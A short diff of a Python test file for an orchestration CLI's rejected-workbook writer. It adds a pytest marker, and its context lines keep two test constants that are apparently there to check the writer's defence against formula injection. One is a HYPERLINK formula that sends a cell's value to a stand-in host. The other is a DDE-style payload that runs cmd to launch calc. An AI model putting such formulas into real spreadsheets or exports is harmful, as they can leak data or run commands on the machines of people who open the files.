@@ -17,6 +17,8 @@ from orchestration.cli import app
 from orchestration.rejected_workbook import write_rejected
 from tests.returns.writers import xlsx
 
+pytestmark = pytest.mark.full
+
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A1)'
 LINK = "@SUM(1+1)*cmd|' /C calc'!A0"
 HEADER = "region_code,region,indicator,period,value,unit,source"
